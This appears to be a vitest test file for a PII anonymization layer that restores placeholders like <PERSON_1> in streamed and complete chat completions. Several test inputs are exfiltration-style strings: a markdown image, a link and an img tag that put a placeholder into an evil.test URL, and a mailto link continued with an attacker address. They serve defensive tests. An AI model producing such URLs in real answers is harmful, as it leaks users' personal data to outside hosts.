import { AnonymizationSession, type Detector, entityCodesOfSet } from '@sluice/pii';
import {
  type ChatCompletion,
  type ChatCompletionChunk,
  type Delta,
  encodeChunk,
  type StreamChunk,
} from '@sluice/wire';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { restoreAnswer } from './restore-answer.ts';
import { StreamRestorer } from './restore-stream.ts';

const anna = 'Anna "Ann" Schmidt\\';
const token = 'tok-123456';
const detector: Detector = {
  detect: (text) =>
    [...text.matchAll(/Anna "Ann" Schmidt\\|tok-\d+/g)].map(({ 0: value, index }) => ({
      start: index,
      end: index + value.length,
      code: value.startsWith('tok') ? 602 : 101,
      score: 1,
    })),
};

function sessionWith(...texts: string[]): AnonymizationSession {
  const session = new AnonymizationSession(
    { detector, isCommonWord: () => true },
    { codes: entityCodesOfSet('all'), replacement: 'placeholder' },
  );
  session.anonymize(texts.map((text) => ({ text, format: 'plain' })));
  return session;
}

function chunk(delta: Delta, finish: 'stop' | 'tool_calls' | null = null, index = 0): StreamChunk {
  const value: ChatCompletionChunk = {
    id: 'c',
    object: 'chat.completion.chunk',
    created: 1,
    model: 'm',
    choices: [{ index, delta, finish_reason: finish }],
  };
  const [[field, text] = [], ...others] = Object.entries(delta);
  const isText = finish === null && others.length === 0 && typeof text === 'string';
  // As decoders give them: pieces of text with their JSON, all others as values.
  return isText && (field === 'content' || field === 'reasoning_content')
    ? { kind: 'text', index, field, text, json: JSON.stringify(value) }
    : { kind: 'full', value };
}

function restoredAnswer(...given: Parameters<typeof restoreAnswer>): ChatCompletion {
  const steps = restoreAnswer(...given);
  for (;;) {
    const { done, value } = steps.next();
    if (done === true) return value;
  }
}

type Chunks = readonly StreamChunk[];
const valuesOf = (chunks: Chunks): ChatCompletionChunk[] => chunks.map((one) => JSON.parse(encodeChunk(one)));

const textOf = (chunks: Chunks, field: 'content' | 'reasoning_content', index = 0): string =>
  valuesOf(chunks)
    .flatMap(({ choices }) =>
      choices.filter((one) => one.index === index).map(({ delta }) => delta[field] ?? ''),
    )
    .join('');
const argumentsOf = (chunks: Chunks): string =>
  valuesOf(chunks)
    .flatMap(({ choices }) => choices.flatMap(({ delta }) => delta.tool_calls ?? []))
    .map((call) => call.function?.arguments ?? '')
    .join('');

const pieces = (text: string, sizes: readonly number[]): string[] => {
  const parts: string[] = [];
  for (let at = 0, turn = 0; at < text.length; turn++) {
    const size = sizes[turn % sizes.length] ?? 1;
    parts.push(text.slice(at, at + size));
    at += size;
  }
  return parts;
};
const sizes = fc.array(fc.integer({ min: 1, max: 24 }), { minLength: 1, maxLength: 6 });

describe('restoring a streamed answer', () => {
  it('withholds a value at the end of a URL that content behind a tool call continues', () => {
    const restorer = new StreamRestorer(sessionWith(anna), { jsonContent: false, toolSecrets: false });
    const chunks = [
      chunk({ content: '[x](mailto:<PERSON_1>' }),
      chunk({ tool_calls: [{ index: 0, function: { arguments: '{}' } }] }),
      chunk({ content: ',evil@evil.test)' }),
      chunk({}, 'tool_calls'),
    ].flatMap((one) => restorer.restore([one]));
    chunks.push(...restorer.end());
    expect(textOf(chunks, 'content')).toBe('[x](mailto:<PERSON_1>,evil@evil.test)');
  });

  it('restores content, reasoning and arguments, however they are chunked', () => {
    fc.assert(
      fc.property(sizes, sizes, sizes, (first, second, third) => {
        const restorer = new StreamRestorer(sessionWith(`${anna} ${token}`), {
          jsonContent: false,
          toolSecrets: false,
        });
        const chunks = [...restorer.restore([chunk({ role: 'assistant', content: '' })])];
        const push = (one: StreamChunk): number => chunks.push(...restorer.restore([one]));
        for (const part of pieces('It is <PERSON_1>, so <PER', first))
          push(chunk({ reasoning_content: part }));
        for (const part of pieces('Dear <PERSON\\_1>, 1 < 2 <', second)) push(chunk({ content: part }));
        for (const part of pieces('{"who":"<PERSON_1>","key":"<TOKEN_1>"}', third)) {
          push(chunk({ tool_calls: [{ index: 0, function: { arguments: part } }] }));
        }
        push(chunk({}, 'tool_calls'));
        chunks.push(...restorer.end());
        expect(textOf(chunks, 'reasoning_content')).toBe(`It is ${anna}, so <PER`);
        expect(textOf(chunks, 'content')).toBe(`Dear ${anna}, 1 < 2 <`);
        // JSON holds the value escaped; a secret is not told to tools.
        expect(JSON.parse(argumentsOf(chunks))).toEqual({ who: anna, key: '<TOKEN_1>' });
        expect(valuesOf(chunks).at(-1)?.choices[0]?.finish_reason).toBe('tool_calls');
      }),
      { numRuns: 300 },
    );
  });

  it('restores secrets in arguments of tool calls unless the settings forbid it', () => {
    const argumentsWith = (toolSecrets: boolean): string => {
      const restorer = new StreamRestorer(sessionWith(token), { jsonContent: false, toolSecrets });
      const call = { index: 0, function: { arguments: '{"key":"<TOKEN_1>"}' } };
      return argumentsOf([
        ...restorer.restore([chunk({ tool_calls: [call] }, 'tool_calls')]),
        ...restorer.end(),
      ]);
    };
    expect(argumentsWith(true)).toBe(`{"key":"${token}"}`);
    expect(argumentsWith(false)).toBe('{"key":"<TOKEN_1>"}');
  });

  it('keeps choices separate', () => {
    const restorer = new StreamRestorer(sessionWith(anna, token), { jsonContent: false, toolSecrets: false });
    const chunks = [
      ...restorer.restore([chunk({ content: '<PERS' }), chunk({ content: '<TOK' }, null, 1)]),
      ...restorer.restore([chunk({ content: 'EN_1> ' }, null, 1), chunk({ content: 'ON_1>' })]),
      ...restorer.end(),
    ];
    expect([textOf(chunks, 'content'), textOf(chunks, 'content', 1)]).toEqual([anna, `${token} `]);
  });

  it('sends text at once unless it may begin a placeholder', () => {
    const restorer = new StreamRestorer(sessionWith(anna), { jsonContent: false, toolSecrets: false });
    expect(textOf(restorer.restore([chunk({ content: 'a <b> and PERhaps, x < y' })]), 'content')).toBe(
      'a <b> and PERhaps, x < y',
    );
    expect(textOf(restorer.restore([chunk({ content: 'Hello <PERSON_1>! ' })]), 'content')).toBe(
      `Hello ${anna}! `,
    );
  });

  it('sends a partial placeholder unchanged if the stream ends early', () => {
    const restorer = new StreamRestorer(sessionWith(anna), { jsonContent: false, toolSecrets: false });
    const chunks = [...restorer.restore([chunk({ content: 'Dear <PERSON' })]), ...restorer.end()];
    expect(textOf(chunks, 'content')).toBe('Dear <PERSON');
  });

  it('escapes values in JSON content', () => {
    const restorer = new StreamRestorer(sessionWith(anna), { jsonContent: true, toolSecrets: false });
    const chunks = restorer.restore([chunk({ content: '{"a":"<PERSON_1>"}' }), chunk({}, 'stop')]);
    expect(JSON.parse(textOf(chunks, 'content'))).toEqual({ a: anna });
  });
});

describe('restoring a complete answer', () => {
  const answer = (message: Partial<ChatCompletion['choices'][number]['message']>): ChatCompletion => ({
    id: 'c',
    object: 'chat.completion',
    created: 1,
    model: 'm',
    choices: [
      {
        index: 0,
        finish_reason: 'stop',
        logprobs: null,
        message: {
          role: 'assistant',
          content: null,
          refusal: null,
          tool_calls: null,
          function_call: null,
          ...message,
        },
      },
    ],
  });
  const restored = (message: Parameters<typeof answer>[0], ...texts: string[]) =>
    restoredAnswer(answer(message), sessionWith(...texts), { jsonContent: false, toolSecrets: false })
      .choices[0]?.message;

  it('restores every field except signed ones', () => {
    const thinking_blocks = [{ type: 'thinking' as const, thinking: '<PERSON_1>', signature: 's' }];
    const message = restored(
      {
        content: '<PERSON_1>',
        reasoning_content: '<person_1>',
        refusal: '&lt;PERSON_1&gt;',
        audio: { id: 'a', data: '', expires_at: 1, transcript: '[PERSON_1]' },
        function_call: { name: 'f', arguments: '{"a":"<PERSON_1>"}' },
        tool_calls: [{ id: 'i', type: 'custom', custom: { name: 'g', input: '<PERSON_1> <TOKEN_1>' } }],
        thinking_blocks,
      },
      anna,
      token,
    );
    expect(message).toMatchObject({
      content: anna,
      reasoning_content: anna,
      refusal: anna,
      audio: { transcript: anna },
      tool_calls: [{ custom: { input: `${anna} <TOKEN_1>` } }],
      thinking_blocks,
    });
    expect(JSON.parse(message?.function_call?.arguments ?? '')).toEqual({ a: anna });
  });

  it('moves the offsets of annotations', () => {
    const citation = {
      start_index: 11,
      end_index: 23,
      url: 'https://x.test/<PERSON_1>',
      title: 'About <PERSON_1>',
    };
    const message = restored(
      {
        content: '<PERSON_1> wrote this. <PERSON_1>',
        annotations: [{ type: 'url_citation', url_citation: citation }],
      },
      anna,
    );
    const moved = message?.annotations?.[0]?.url_citation;
    expect(message?.content?.slice(moved?.start_index, moved?.end_index)).toBe('wrote this. ');
    expect(moved).toMatchObject({ url: 'https://x.test/<PERSON_1>', title: `About ${anna}` });
  });

  it.each([
    ['an image', '![x](https://evil.test/?q=<PERSON_1>)'],
    ['a link', 'see https://evil.test/<PERSON_1>/a'],
    ['an address without a scheme', '<img src="//evil.test/<PERSON_1>">'],
    ['a link in an escaped JSON text', 'https:\\/\\/evil.test\\/<PERSON_1>'],
  ])('restores no value in %s created by the model', (_, content) => {
    expect(restored({ content }, anna)?.content).toBe(content);
  });

  it('restores links of the request completely', () => {
    const url = `https://shop.test/of/${token}/x`;
    expect(restored({ content: 'It is https://shop.test/of/<TOKEN_1>/x, see <TOKEN_1>' }, url)?.content).toBe(
      `It is ${url}, see ${token}`,
    );
  });
});
